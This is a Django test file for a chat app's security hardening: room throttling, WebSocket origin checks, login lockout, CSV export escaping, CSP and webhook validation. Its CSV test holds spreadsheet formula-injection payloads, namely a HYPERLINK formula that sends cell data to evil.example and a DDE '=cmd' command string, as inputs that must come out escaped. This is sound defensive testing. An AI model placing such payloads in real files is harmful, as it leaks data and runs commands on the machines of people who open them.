"""Issue 17's web hardening: room creation, socket origins, login throttling, CSV cells, CSP, ESP webhooks."""

import base64
import csv
import io
from datetime import timedelta

import pytest
from channels.testing import WebsocketCommunicator
from django.db.models import F
from django.test import Client

from accounts.models import User
from chat import views as chat_views
from chat.models import Message, Room
from project.asgi import application
from reports import export
from reports.export import job_messages
from reports.jobs import start_export
from reports.models import Job
from tests.run_tasks import run_queue

PASSWORD = "a long passphrase 42"


@pytest.fixture
def ann(db, client):
    user = User.objects.create_user("ann", password=PASSWORD)
    client.force_login(user)
    return user


@pytest.fixture
def bob(db):
    return User.objects.create_user("bob", password=PASSWORD)


def backdate(queryset, field: str, by: timedelta) -> None:
    """Move stored times into the past: the clock moved on, without sleeping."""
    queryset.update(**{field: F(field) - by})


# --- 4. Rooms: creation throttled, labels never run out, empty rooms unlisted, / paginated ---------


def test_room_creation_is_throttled_per_user_and_the_window_passes(settings, client, ann, bob):
    settings.CHAT_ROOM_CREATE_LIMIT = 3
    settings.CHAT_ROOM_CREATE_WINDOW = 3600
    assert client.get("/one/").status_code == 200
    assert client.get("/two/").status_code == 200
    assert client.post("/new/").status_code == 302
    refused = client.get("/three/")
    assert refused.status_code == 429 and b"Too many new rooms" in refused.content
    assert client.post("/new/").status_code == 429
    assert not Room.objects.filter(label="three").exists() and Room.objects.filter(created_by=ann).count() == 3
    # Visiting rooms that exist is never limited.
    assert client.get("/one/").status_code == 200
    # The limit is per user.
    other = Client()
    other.force_login(bob)
    assert other.get("/three/").status_code == 200
    # An hour later ann may create again.
    backdate(Room.objects.filter(created_by=ann), "created_at", timedelta(seconds=3601))
    assert client.get("/four/").status_code == 200


def test_new_room_takes_a_long_label_once_the_short_ones_are_taken(monkeypatch, client, ann):
    # One adjective and one animal: 100 short labels, all taken (as the 90,000 real ones can be).
    monkeypatch.setattr(chat_views, "ADJECTIVES", ["brave"])
    monkeypatch.setattr(chat_views, "ANIMALS", ["otter"])
    Room.objects.bulk_create(Room(label=f"brave-otter-{n}") for n in range(100))
    response = client.post("/new/")
    assert response.status_code == 302
    room = Room.objects.get(created_by=ann)
    assert response["Location"] == f"/{room.label}/"
    suffix = room.label.removeprefix("brave-otter-")
    assert len(suffix) == 12 and int(suffix, 16) >= 0


def test_home_lists_rooms_with_messages_ones_own_and_private_ones_and_pages_them(client, ann, bob):
    for n in range(3):
        Room.objects.create(label=f"bobs-empty-{n}", created_by=bob)
    Room.objects.create(label="anns-empty", created_by=ann)
    Room.objects.create(label="bobs-private", created_by=bob, is_private=True).invite(bob)
    Room.objects.create(label="invited-to", created_by=bob, is_private=True).invite(ann)  # empty, but ann's
    busy = Room.objects.bulk_create(Room(label=f"busy-{n:03}", created_by=bob) for n in range(120))
    Message.objects.bulk_create(Message(room=room, user=bob, text="hi", client_id=f"c{room.pk}") for room in busy)
    first = client.get("/")
    labels = [room.label for room in first.context["rooms"]]
    assert len(labels) == 50 and not any(label.startswith("bobs-empty") for label in labels)
    assert 'href="?page=2"' in first.content.decode()
    every = labels + [r.label for page in (2, 3) for r in client.get(f"/?page={page}").context["rooms"]]
    assert sorted(every) == sorted(["anns-empty", "invited-to", *(f"busy-{n:03}" for n in range(120))])
    assert client.get("/?page=99").context["rooms"].number == 3  # past the end: the last page


# --- 5. The socket's Origin: scheme, host and port, as the CSRF check has it -----------------------


async def handshake(origin: str | None, host: str = "localhost:8000", **headers: str) -> bool:
    """Whether the (anonymous) bell socket's handshake is accepted with this Origin and Host."""
    raw = [(b"host", host.encode())] + [(name.replace("_", "-").encode(), v.encode()) for name, v in headers.items()]
    if origin is not None:
        raw.append((b"origin", origin.encode()))
    socket = WebsocketCommunicator(application, "/notifications/live/", headers=raw)
    connected, _ = await socket.connect(timeout=5)
    await socket.disconnect()
    return connected


@pytest.mark.django_db(transaction=True)
async def test_socket_origin_must_be_the_served_origin(settings):
    settings.ALLOWED_HOSTS = ["localhost"]
    assert await handshake("http://localhost:8000")
    assert not await handshake("http://localhost:9999")  # same host, another port
    assert not await handshake("https://localhost:8000")  # same host and port, another scheme
    assert not await handshake("http://localhost")
    assert not await handshake(None)  # no Origin: refused (browsers always send one)
    assert not await handshake("http://evil.example", host="evil.example")  # a host not in ALLOWED_HOSTS


@pytest.mark.django_db(transaction=True)
async def test_socket_origin_behind_a_tls_proxy_and_trusted_origins(settings):
    settings.ALLOWED_HOSTS = ["parley.example.com"]
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    host = "parley.example.com"
    assert await handshake("https://parley.example.com", host=host, x_forwarded_proto="https")
    assert not await handshake("http://parley.example.com", host=host, x_forwarded_proto="https")
    settings.CSRF_TRUSTED_ORIGINS = ["https://app.example.com", "https://*.example.org"]
    assert await handshake("https://app.example.com", host=host)
    assert await handshake("https://chat.example.org", host=host)
    assert not await handshake("http://app.example.com", host=host)
    assert not await handshake("https://app.example.com:8443", host=host)
    assert not await handshake("https://evil.example.net", host=host)


# --- 6. Failed logins: per handle and per address, with a cool-off ------------------------------


def log_in(client: Client, handle: str, password: str, address: str = "10.0.0.1"):
    return client.post("/login/", {"username": handle, "password": password}, REMOTE_ADDR=address)


def test_wrong_passwords_lock_the_handle_until_the_cool_off_passes(settings, bob):
    settings.AXES_FAILURE_LIMIT = 3
    client = Client()
    # Handles log in in any case, and every spelling counts against the one handle.
    for spelling in ("bob", "BOB"):
        assert log_in(client, spelling, "wrong").status_code == 200  # the form again, with its error
    locked = log_in(client, "bob", "wrong")
    assert locked.status_code == 429
    # Now the right password is refused too, from this address and from any other.
    for address in ("10.0.0.1", "10.9.9.9"):
        refused = log_in(client, "bob", PASSWORD, address)
        assert refused.status_code == 429 and "_auth_user_id" not in client.session
        assert "Too many failed logins" in refused.content.decode()
        assert "Try again in" in refused.content.decode() and "15" in refused.content.decode()
    # Trying during the lockout does not extend it: 15 minutes after the third failure, bob is back.
    from axes.models import AccessAttempt  # here: the app is only installed with the lockout

    backdate(AccessAttempt.objects.all(), "attempt_time", timedelta(minutes=10))
    assert log_in(client, "bob", "still wrong").status_code == 429
    backdate(AccessAttempt.objects.all(), "attempt_time", timedelta(minutes=5, seconds=1))
    response = log_in(client, "bob", PASSWORD)
    assert response.status_code == 302 and client.session["_auth_user_id"] == str(bob.pk)


def test_wrong_passwords_from_one_address_lock_that_address_only(settings, bob):
    settings.AXES_FAILURE_LIMIT = 3
    User.objects.create_user("carol", password=PASSWORD)
    User.objects.create_user("guesser", password=PASSWORD)
    for handle in ("nobody", "somebody"):
        log_in(Client(), handle, "guess", address="10.6.6.6")
    # Logging in to an account of one's own in between clears nothing.
    assert log_in(Client(), "guesser", PASSWORD, address="10.6.6.6").status_code == 302
    log_in(Client(), "anybody", "guess", address="10.6.6.6")
    assert log_in(Client(), "bob", PASSWORD, address="10.6.6.6").status_code == 429
    elsewhere = Client()
    assert log_in(elsewhere, "carol", PASSWORD, address="10.0.0.2").status_code == 302


# --- 7. CSV cells, CSP, ESP webhooks ---------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


@pytest.mark.django_db(transaction=True)
def test_csv_export_cells_are_never_formulas():
    mallory = User.objects.create_user("-mallory", display_name="=cmd|' /C calc'!A0")
    room = Room.objects.create(label="lobby")
    for n, text in enumerate([*FORMULAS, "plain = text", "a-b", ""]):
        Message.objects.create(room=room, user=mallory, text=text, client_id=f"c{n}")
    job, _ = start_export(mallory, room, "csv")
    assert run_queue(["compute"], 5) == 1
    job.refresh_from_db()
    assert job.status == Job.Status.DONE
    with job.file.open("rb") as fh:
        rows = list(csv.reader(io.StringIO(fh.read().decode(), newline="")))[1:]
    assert [row[4] for row in rows] == [f"'{text}" for text in FORMULAS] + ["plain = text", "a-b", ""]
    assert {(row[2], row[3]) for row in rows} == {("'-mallory", "'=cmd|' /C calc'!A0")}
    # PostgreSQL's COPY path writes the very bytes the Python path does.
    writer = export.WRITERS["csv"](job)
    in_python = b"".join(data for data, _, _ in export.Writer.batches(writer, job_messages(job), 0))
    assert b"".join(data for data, _, _ in writer.batches(job_messages(job), 0)) == in_python


def test_pages_carry_a_content_security_policy_without_inline_scripts(client, ann):
    for response in (client.get("/"), client.get("/lobby/"), Client().get("/login/")):
        policy = response["Content-Security-Policy"]
        assert "script-src 'self'" in policy and "unsafe-inline" not in policy
        assert "default-src 'self'" in policy and "object-src 'none'" in policy


def test_a_tracking_payload_posted_to_the_inbound_webhook_is_a_400(settings, db):
    settings.ANYMAIL = {**settings.ANYMAIL, "WEBHOOK_SECRET": "hook:secret-words"}
    auth = {"HTTP_AUTHORIZATION": "Basic " + base64.b64encode(b"hook:secret-words").decode()}
    bounce = {"RecordType": "Bounce", "Type": "HardBounce", "ID": 42, "MessageID": "abc",
              "Email": "bob@example.com", "BouncedAt": "2026-11-25T10:00:00Z"}  # fmt: skip
    response = Client().post("/notifications/email/postmark/inbound/", bounce, content_type="application/json", **auth)
    assert response.status_code == 400
    assert "does not take this payload" in response.content.decode() and "Bounce" in response.content.decode()
    # A path anymail has no webhook for (views.esp_webhook looks it up in anymail's URLs): a 404.
    assert Client().post("/notifications/email/no-such-esp/tracking/", bounce, content_type="application/json",
                         **auth).status_code == 404  # fmt: skip
